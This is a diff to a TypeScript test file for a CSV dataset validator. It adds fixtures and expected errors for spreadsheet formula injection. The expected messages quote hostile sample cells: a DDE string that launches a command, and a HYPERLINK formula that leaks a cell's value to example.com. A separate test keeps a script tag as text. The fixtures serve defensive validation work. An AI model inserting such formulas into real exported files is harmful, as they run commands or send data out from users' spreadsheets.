@@ -26,7 +26,11 @@ const CORPUS: [string, string[]][] = [
   ['duplicate-header.csv', ["data/models.csv:1:23: duplicate column \"name\" (also column 2)"]],
   ['duplicate-id.csv', ["data/models.csv:3:1: id: duplicate \"base-7b\" (first on line 2)"]],
   ['empty-file.csv', ["data/models.csv:1:1: file is empty; expected a header row"]],
-  ['formula-cells.csv', []],
+  ['formula-cells.csv', ["data/models.csv:2:2: name: starts with \"=\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"=HYPERLINK(\\\"http://example.com\\\")\"","data/models.csv:2:4: organization: starts with \"+\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"+Lab\"","data/models.csv:2:22: locator: starts with \"@\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"@SUM(A1)\""]],
+  ['formula-dde.csv', ["data/models.csv:2:2: name: starts with \"-\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"-2+3+cmd|' /C calc'!A0\"","data/models.csv:2:16: hardware_type: starts with \"+\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"+1+1\"","data/models.csv:2:22: locator: starts with \"@\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"@SUM(A1:A9)\""]],
+  ['formula-hyperlink.csv', ["data/models.csv:2:2: name: starts with \"=\", which a spreadsheet would run as a formula; reword it to start with a letter or digit, got \"=HYPERLINK(\\\"http://example.com/?leak=\\\"&A1,\\\"details\\\")\""]],
+  ['formula-leading-tab.csv', ["data/models.csv:2:4: organization: contains a tab at position 1; use a space","data/models.csv:3:22: locator: contains a tab at position 1; use a space"]],
+  ['formula-lookalikes.csv', []],
   ['future-date.csv', ["data/models.csv:2:5: release_date: 2999-01 is in the future (today is 2026-01-01)"]],
   ['header-only.csv', ["data/architectures.csv:2:1: model_id: \"base-7b\" is not an id in models.csv","data/provenance.csv:2:2: model_id: \"base-7b\" is not an id in models.csv","data/surveys/s-2023/cards.csv:2:13: model_id: \"base-7b\" is not an id in models.csv","data/training.csv:2:1: model_id: \"base-7b\" is not an id in models.csv"]],
   ['html-in-text.csv', []],
@@ -65,12 +69,20 @@ describe('the bad-input corpus', () => {
     expect(CORPUS.length).toBeGreaterThanOrEqual(30);
   });
 
-  test('HTML and formula-looking text is kept as text, to be escaped and neutralised on output', () => {
+  test('HTML is kept as text, to be escaped on output', () => {
     const dir = mkdtempSync(join(tmpdir(), 'atlas-html-'));
     cpSync('tests/fixtures/good-data', dir, { recursive: true });
     copyFileSync('tests/fixtures/bad/html-in-text.csv', join(dir, 'models.csv'));
     const { dataset } = loadDataset(dir, { today: '2026-01-01' });
     expect(dataset.models[0]!.data.name).toBe('<script>alert(1)</script>');
+  });
+
+  test('a lone "-", a plain number and a minus sign are text a spreadsheet keeps as text, and stay as written', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'atlas-formula-'));
+    cpSync('tests/fixtures/good-data', dir, { recursive: true });
+    copyFileSync('tests/fixtures/bad/formula-lookalikes.csv', join(dir, 'models.csv'));
+    const model = loadDataset(dir, { today: '2026-01-01' }).dataset.models[0]!.data;
+    expect([model.hardware_type, model.locator, model.name, model.organization]).toEqual(['-', '-3', '−2 Base (a minus sign, not a hyphen)', 'Lab = team']);
   });
 
   test('a file of 100,000 rows is read whole and its one bad row is found', () => {
